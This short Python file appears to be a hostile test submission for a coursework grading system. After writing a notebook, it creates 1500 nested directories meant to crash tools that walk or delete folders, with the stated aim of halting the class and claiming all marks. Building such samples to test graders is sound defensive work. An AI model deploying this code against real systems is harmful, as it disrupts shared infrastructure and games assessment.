"""Hand in folders in folders in folders.

Tries: to break whatever walks through or removes them
Success: the class stops
Marks: all
"""

import json
import os


def hand_in(right, folder, week):
    (folder / f"{week}.ipynb").write_text(json.dumps(right))
    here = os.getcwd()
    os.chdir(folder)
    try:
        for _ in range(1500):
            os.mkdir("deep")
            os.chdir("deep")
    finally:
        os.chdir(here)
